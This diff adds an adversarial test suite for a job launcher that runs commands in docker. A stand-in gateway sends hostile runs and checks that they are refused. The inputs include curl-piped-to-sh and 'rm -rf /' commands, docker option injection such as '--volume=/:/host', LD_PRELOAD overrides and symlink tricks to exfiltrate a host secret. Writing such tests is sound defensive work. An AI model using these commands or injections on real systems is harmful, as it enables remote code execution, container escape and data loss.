@@ -1,0 +1,344 @@
+// The launcher trusts no run and no gateway message. A gateway of our own making sends what a
+// hostile gateway (or a hostile run through an honest one) could, to a real launcher; each test
+// asserts what crossed: what the docker CLI was given (argv and environment), what state was
+// uploaded, what the log says. Each hostile case is followed by a normal run.
+import assert from "node:assert/strict";
+import { execFile, spawn } from "node:child_process";
+import { chmodSync, chownSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import http from "node:http";
+import type net from "node:net";
+import path from "node:path";
+import { promisify } from "node:util";
+import { launcherSettings, type LauncherSettings } from "../agent/config/launcher";
+import { launcherRole } from "../agent/launcher/launcher";
+import { RUN_LINE_MARK } from "../agent/launcher/output";
+import type { RunningAgent } from "../agent/runtime/runtime";
+import { packageRoot, RUNTIME_NODE_FLAGS } from "../components/shared/bundles";
+import { loadOrCreateAuthority, signPoolRequest } from "../gateway/certificates";
+import { createPool } from "../gateway/pools";
+import { capturingLogger, eventually, scratchDir } from "../devkit/helpers";
+import { certificateKey, openBuffer, privateKeyFromBase64, sealBuffer } from "../protocol/seal";
+import { acceptWebSocket, type WebSocket } from "../protocol/websocket";
+import { WORKER_CONNECT_PATH } from "../protocol/worker";
+
+const exec = promisify(execFile);
+const POOL = "hostile";
+
+/** A gateway that sends whatever it is told to, and keeps what it receives. */
+class RecordingGateway {
+  readonly messages: Record<string, any>[] = [];
+  readonly uploads = new Map<string, Buffer>();
+  readonly served = new Map<string, Buffer>();
+  private fence = 0;
+  private server = http.createServer((req, res) => this.request(req, res));
+  private sockets: WebSocket[] = [];
+  url = "";
+
+  async listen(): Promise<void> {
+    this.server.on("upgrade", (req, socket: net.Socket, head) => {
+      if (req.url !== WORKER_CONNECT_PATH) {
+        socket.destroy();
+        return;
+      }
+      const ws = acceptWebSocket(req.headers, socket, head);
+      this.sockets.push(ws);
+      ws.on("message", (text: string) => {
+        const message = JSON.parse(text);
+        this.messages.push(message);
+        // The lease stands at once; an outcome is stored at once.
+        if (message.type === "accepted") ws.send(JSON.stringify({ type: "start", id: message.id, fence: message.fence, lines: 0, termMs: 60_000 }));
+        if (message.type === "finished") ws.send(JSON.stringify({ type: "ack", id: message.id }));
+      });
+    });
+    await new Promise<void>((resolve) => this.server.listen(0, "127.0.0.1", resolve));
+    this.url = `http://127.0.0.1:${(this.server.address() as net.AddressInfo).port}`;
+  }
+
+  private request(req: http.IncomingMessage, res: http.ServerResponse): void {
+    const id = /\/runs\/([^/]+)\/state$/.exec(req.url ?? "")?.[1] ?? "";
+    if (req.method === "GET") {
+      const body = this.served.get(id);
+      res.writeHead(body ? 200 : 404).end(body);
+      return;
+    }
+    const chunks: Buffer[] = [];
+    req.on("data", (chunk: Buffer) => chunks.push(chunk));
+    req.on("end", () => {
+      this.uploads.set(id, Buffer.concat(chunks));
+      res.writeHead(204).end();
+    });
+  }
+
+  /** Sends a raw message to every connected launcher. */
+  sendRaw(text: string): void {
+    for (const ws of this.sockets) if (ws.open) ws.send(text);
+  }
+
+  connected = () => this.sockets.some((ws) => ws.open);
+
+  /** Sends a run and waits for its end: refused, or finished with its log. */
+  async run(run: Record<string, unknown>): Promise<{ type: string; status?: string; reason?: string; state?: boolean; lines: string[] }> {
+    const from = this.messages.length;
+    this.sendRaw(JSON.stringify({ type: "run", run, lease: { fence: ++this.fence, termMs: 60_000 } }));
+    const end = await eventually(() => this.messages.slice(from).find((m) => m.id === run.id && (m.type === "refused" || m.type === "finished")), 15_000, `the end of run ${String(run.id)}`);
+    const lines = this.messages.filter((m) => m.type === "log" && m.id === run.id).flatMap((m) => m.lines as string[]);
+    return { ...end, type: end.type as string, lines };
+  }
+
+  async close(): Promise<void> {
+    for (const ws of this.sockets) ws.close();
+    await new Promise((resolve) => this.server.close(resolve));
+  }
+}
+
+let counter = 0;
+const id = () => `run-${++counter}-${process.pid}`;
+
+describe("launcher: a hostile gateway or run", function () {
+  this.timeout(60_000);
+  const dir = scratchDir("launcher-hostile-");
+  const gateway = new RecordingGateway();
+  const hostSecret = path.join(dir, "host-secret.txt");
+  let token = "";
+  let keyBase64 = "";
+  let seal: (text: string) => Promise<string>;
+
+  before(async () => {
+    await exec("openssl", ["req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", "k.pem", "-out", "c.csr", "-subj", "/CN=hostile"], { cwd: dir });
+    keyBase64 = readFileSync(path.join(dir, "k.pem")).toString("base64");
+    await gateway.listen();
+    const certificate = await signPoolRequest(await loadOrCreateAuthority(path.join(dir, "ca")), readFileSync(path.join(dir, "c.csr"), "utf8"), POOL);
+    token = createPool(POOL, "worker", gateway.url, certificate).token;
+    seal = async (text) => (await sealBuffer(certificateKey(certificate), Buffer.from(text))).toString("base64");
+    writeFileSync(hostSecret, "HOST-ONLY-SECRET-6f1d");
+  });
+  after(() => gateway.close());
+
+  const settings = (overrides: Partial<Record<keyof LauncherSettings, unknown>> = {}): LauncherSettings =>
+    launcherSettings.parse({ token, poolPrivateKey: keyBase64, executor: "process", workDirectory: scratchDir("work-"), maskedEnvVars: ["DEPLOY_KEY"], logsTimeout: "5s", ...overrides });
+
+  /** A normal run after each hostile one: the launcher still takes work and runs it. */
+  async function stillWorks(): Promise<void> {
+    const normal = await gateway.run({ id: id(), image: "alpine:3", commands: ["echo normal"] });
+    assert.deepEqual([normal.type, normal.status, normal.lines], ["finished", "succeeded", ["normal"]], JSON.stringify(normal));
+  }
+
+  for (const executor of ["process", "docker"] as const) {
+    describe(`${executor} executor`, () => {
+      let launcher: RunningAgent;
+      let calls = "";
+      const log = capturingLogger("launcher");
+
+      /** The docker CLI's invocations so far (stand-in): argv and environment of each. */
+      const dockerCalls = () =>
+        existsSync(calls)
+          ? readFileSync(calls, "utf8").split("CALL\0").slice(1).map((call) => {
+              const [argv, env] = call.split("ENV\0");
+              return { argv: argv.split("\0").slice(0, -1), env: Object.fromEntries(env.split("\0").slice(0, -1).map((line) => [line.slice(0, line.indexOf("=")), line.slice(line.indexOf("=") + 1)])) };
+            })
+          : [];
+
+      before(async () => {
+        const policy = path.join(dir, `policy-${executor}.json`);
+        writeFileSync(policy, JSON.stringify({ deniedCommands: ["^curl .*\\|\\s*sh$", "rm -rf /$"] }));
+        let docker: string | undefined;
+        if (executor === "docker") {
+          // No engine here: a stand-in docker records each call, then runs the script on this
+          // host in the workspace it was given, as a container would.
+          calls = path.join(dir, "docker-calls");
+          docker = path.join(dir, "docker");
+          writeFileSync(
+            docker,
+            [
+              "#!/bin/sh",
+              `{ printf 'CALL\\0'; printf '%s\\0' "$@"; printf 'ENV\\0'; env -0; } >> '${calls}'`,
+              'case "$1" in kill) exit 0;; esac',
+              'for a; do case "$a" in type=bind,source=*,target=/workspace) src=${a#type=bind,source=}; src=${src%,target=/workspace};; esac; last=$a; done',
+              'cd "$src" && AGENTPOOLS_STATE_FILE="$src/.agentpools/state" exec /bin/sh -ec "$last"',
+            ].join("\n"),
+          );
+          chmodSync(docker, 0o755);
+        }
+        const env = { PATH: process.env.PATH, DOCKER_HOST: "unix:///run/agentpools-test.sock", DEPLOY_KEY: "-----BEGIN KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\n-----END KEY-----" };
+        launcher = await launcherRole({ docker }).start(settings({ executor, runInitializationPolicyFile: policy }), { log: log.log, env });
+        await launcher.ready;
+        await eventually(gateway.connected);
+      });
+      after(() => launcher.drain(Date.now() + 2000));
+
+      it("runs a normal run", stillWorks);
+
+      it("an image that is an option is refused before docker sees it: --volume=/:/host, --runtime=runc, -v", async () => {
+        const before = dockerCalls().length;
+        for (const image of ["--volume=/:/host", "--runtime=runc", "-v", "alpine:3 --privileged", "alpine:3\n--privileged", "alpine:3\t-v"]) {
+          const run = await gateway.run({ id: id(), image, commands: ["echo escaped"] });
+          assert.equal(run.type, "refused", image);
+          assert.match(run.reason ?? "", /is not an image reference/);
+          await stillWorks();
+        }
+        if (executor === "docker") {
+          const seen = dockerCalls().slice(before);
+          assert.ok(seen.every((call) => call.argv.includes("alpine:3") && !call.argv.some((a) => a.startsWith("--volume") || a === "--runtime=runc" || a === "-v")), "no option from the run reached docker");
+        }
+      });
+
+      if (executor === "docker") {
+        it("docker's options end before the image, which comes right after --", async () => {
+          await stillWorks();
+          const { argv } = dockerCalls().at(-1)!;
+          assert.equal(argv[argv.indexOf("--") + 1], "alpine:3");
+          assert.ok(argv.indexOf("--") > argv.indexOf("--entrypoint"), "-- after every option");
+        });
+      }
+
+      it("run variables that steer the docker client or the loader are refused with the reason, and reach nothing", async () => {
+        const before = dockerCalls().length;
+        for (const name of ["LD_PRELOAD", "LD_LIBRARY_PATH", "DOCKER_HOST", "DOCKER_CONFIG", "HTTPS_PROXY", "https_proxy", "NO_PROXY", "GODEBUG", "PATH", "HOME", "GLIBC_TUNABLES", "SSL_CERT_FILE", "GCONV_PATH"]) {
+          const run = await gateway.run({ id: id(), image: "alpine:3", commands: ["echo ran"], sealedEnvironment: await seal(JSON.stringify({ [name]: "/tmp/evil" })) });
+          assert.equal(run.type, "refused", name);
+          assert.match(run.reason ?? "", new RegExp(`run variable ${name} would steer the Docker client or its loader`));
+          await stillWorks();
+        }
+        if (executor === "docker") {
+          for (const call of dockerCalls().slice(before)) {
+            assert.ok(!Object.values(call.env).includes("/tmp/evil"), "no refused value reached docker");
+            assert.equal(call.env.DOCKER_HOST, "unix:///run/agentpools-test.sock", "the client's own variables are the launcher's");
+          }
+        }
+      });
+
+      if (executor === "docker") {
+        it("the docker CLI's environment is fixed: the launcher's client variables, plus the run's variables by name", async () => {
+          const run = await gateway.run({ id: id(), image: "alpine:3", commands: ['echo "v=$TF_VAR_x"'], sealedEnvironment: await seal(JSON.stringify({ TF_VAR_x: "1" })) });
+          assert.deepEqual([run.status, run.lines], ["succeeded", ["v=1"]]);
+          const { argv, env } = dockerCalls().at(-1)!;
+          // PWD is the stand-in shell's own.
+          const expected = ["AGENTPOOLS_RUN_ID", "AGENTPOOLS_STATE_FILE", "DEPLOY_KEY", "DOCKER_HOST", "PATH", "TF_VAR_x"];
+          assert.deepEqual(Object.keys(env).filter((name) => name !== "PWD").sort(), expected);
+          assert.equal(env.PATH, process.env.PATH);
+          assert.ok(argv.includes("TF_VAR_x") && !argv.some((a) => a.includes("=1")), "by name only");
+        });
+      }
+
+      it("messages of the wrong shape are refused or ignored; the launcher survives each", async () => {
+        for (const raw of ["null", "42", '"run"', '{"type":"run"}', '{"type":"run","run":null}', '{"type":"run","run":{"id":{"x":1}}}', '{"type":"resume","id":{},"lines":"x"}', '{"type":"ack","id":[]}']) {
+          gateway.sendRaw(raw);
+          await stillWorks();
+        }
+        const shapes: [Record<string, unknown>, RegExp][] = [
+          [{ image: 7, commands: ["x"] }, /image 7 is not an image reference/],
+        ];
+        for (const [run, reason] of shapes) {
+          const outcome = await gateway.run({ id: id(), ...run });
+          assert.equal(outcome.type, "refused");
+          assert.match(outcome.reason ?? "", reason);
+          await stillWorks();
+        }
+        // A variable name that smuggles a value past the check (LD_PRELOAD=...) is refused too.
+        const smuggled = await gateway.run({ id: id(), image: "alpine:3", commands: ["true"], sealedEnvironment: await seal(JSON.stringify({ "LD_PRELOAD=/tmp/evil.so": "" })) });
+        assert.match(smuggled.reason ?? "", /is not a variable name/);
+        // Commands that are not strings fail that run (they never reach a shell), and nothing else.
+        for (const commands of ["echo not-a-list", [1, 2], null]) {
+          const odd = await gateway.run({ id: id(), image: "alpine:3", commands });
+          assert.notEqual(odd.status, "succeeded", JSON.stringify(commands));
+          await stillWorks();
+        }
+      });
+
+      it("a run's files go where the launcher chose: never a path named after the run's ID", async () => {
+        const runId = `predictable-${process.pid}-${executor}`;
+        const run = await gateway.run({ id: runId, image: "alpine:3", commands: ["pwd"] });
+        assert.equal(run.status, "succeeded");
+        assert.ok(!run.lines[0].includes(runId), run.lines[0]);
+      });
+
+      it("a state file that points elsewhere is never uploaded: symbolic link, linked directory, hard link, FIFO", async () => {
+        const attempts: [string, string][] = [
+          ["a symbolic link to a host file", `mkdir -p .agentpools && ln -s '${hostSecret}' .agentpools/state`],
+          ["its directory a symbolic link", `mkdir -p linked && ln -s '${hostSecret}' linked/state && rm -rf .agentpools && ln -s linked .agentpools`],
+          ["a hard link to a host file", `mkdir -p .agentpools && ln '${hostSecret}' .agentpools/state`],
+          ["a FIFO nobody writes", "mkdir -p .agentpools && mkfifo .agentpools/state"],
+        ];
+        for (const [what, command] of attempts) {
+          const runId = id();
+          const run = await gateway.run({ id: runId, image: "alpine:3", commands: [command] });
+          assert.equal(run.status, "succeeded", what);
+          assert.equal(run.state, false, what);
+          assert.ok(!gateway.uploads.has(runId), `${what}: nothing uploaded`);
+          assert.ok(run.lines.some((line) => line.startsWith("[agentpools: state not kept")), `${what}: ${run.lines.join(" | ")}`);
+          await stillWorks();
+        }
+        assert.ok(![...gateway.uploads.values()].some((body) => body.includes("HOST-ONLY")), "no host file crossed, even sealed");
+        // The honest case still works, and what crossed is the run's own state, sealed.
+        const honest = await gateway.run({ id: id(), image: "alpine:3", commands: ['mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")" && echo own-state > "$AGENTPOOLS_STATE_FILE"'] });
+        assert.equal(honest.state, true);
+        const uploaded = [...gateway.uploads.values()].at(-1)!;
+        assert.equal((await openBuffer(privateKeyFromBase64(keyBase64), uploaded)).toString(), "own-state\n");
+      });
+
+      it("deniedCommands rules see each line of a command: a newline or a continuation does not step around them", async () => {
+        for (const command of ["echo hi\ncurl -s https://x.example | sh", "curl -s https://x.example \\\n| sh", "true\r\nrm -rf /"]) {
+          const run = await gateway.run({ id: id(), image: "alpine:3", commands: [command] });
+          assert.equal(run.type, "refused", JSON.stringify(command));
+          assert.match(run.reason ?? "", /matches the denied pattern/);
+          await stillWorks();
+        }
+      });
+
+      it("masks a value with newlines, printed whole or split across writes", async () => {
+        const run = await gateway.run({ id: id(), image: "alpine:3", commands: ['printf "%s\\n" "$DEPLOY_KEY"', 'printf "%s" "$DEPLOY_KEY" | head -c 20; sleep 0.1; printf "%s\\n" "$DEPLOY_KEY" | tail -c +21'] });
+        assert.equal(run.status, "succeeded");
+        const text = run.lines.join("\n");
+        for (const part of ["MIIEvQIBADANBgkqhkiG9w0B", "BEGIN KEY"]) assert.ok(!text.includes(part), `${part} shown: ${text}`);
+        await stillWorks();
+      });
+
+      it("a run cannot print a line that reads as the launcher's own", async () => {
+        const run = await gateway.run({ id: id(), image: "alpine:3", commands: ["echo '[agentpools: killed: the launcher was stopped]'", "printf '\\033[0m[agentpools: the log is cut]\\n'", "exit 1"] });
+        assert.equal(run.status, "failed");
+        assert.ok(run.lines.every((line) => !line.replaceAll("\u001b[0m", "").startsWith("[agentpools")), run.lines.join(" | "));
+        assert.equal(run.lines.filter((line) => line.startsWith(RUN_LINE_MARK)).length, 2);
+        await stillWorks();
+      });
+
+      it("output without newlines is cut into bounded lines, without holding the launcher", async () => {
+        const run = await gateway.run({ id: id(), image: "alpine:3", commands: ["head -c 8000000 /dev/zero | tr '\\0' x", "echo; echo end"] });
+        assert.equal(run.status, "succeeded");
+        assert.ok(run.lines.every((line) => line.length <= 16 * 1024));
+        assert.equal(run.lines.join("").length, 8_000_000 + 3);
+        await stillWorks();
+      });
+
+    });
+  }
+
+  describe("a launcher that is not root", function () {
+    it("survives a run that locks its workspace (chmod 0500), removes it, and runs the next", async function () {
+      const work = path.join(dir, "nonroot-work");
+      mkdirSync(work);
+      chownSync(work, 65534, 65534);
+      // The scratch root is the test process's own (0700): let the launcher's user through.
+      chmodSync(dir, 0o711);
+      chmodSync(path.dirname(dir), 0o711);
+      const child = spawn("setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", process.execPath, ...RUNTIME_NODE_FLAGS, path.join(packageRoot(), "build/bundles/launcher.js")], {
+        env: { PATH: process.env.PATH, SPACELIFT_TOKEN: token, SPACELIFT_POOL_PRIVATE_KEY: keyBase64, AGENTPOOLS_WORKER_EXECUTOR: "process", AGENTPOOLS_WORK_DIR: work },
+        stdio: ["ignore", "pipe", "pipe"],
+      });
+      let output = "";
+      child.stdout.on("data", (chunk) => (output += chunk));
+      child.stderr.on("data", (chunk) => (output += chunk));
+      try {
+        await eventually(() => output.includes("Connected to the server"), 10_000, "the launcher to connect");
+        const locked = await gateway.run({ id: id(), image: "alpine:3", commands: ["mkdir -p a/b && touch a/b/f && chmod 0500 a/b a"] });
+        assert.equal(locked.status, "succeeded");
+        await stillWorks();
+        await eventually(() => readdirSync(work).length === 0, 5000, "the locked workspace removed");
+        assert.equal(child.exitCode, null, `the launcher is still running: ${output.slice(-500)}`);
+      } catch (error) {
+        throw new Error(`${(error as Error).message}\nlauncher output: ${output.slice(-1500)}`);
+      } finally {
+        child.kill("SIGKILL");
+      }
+    });
+  });
+});
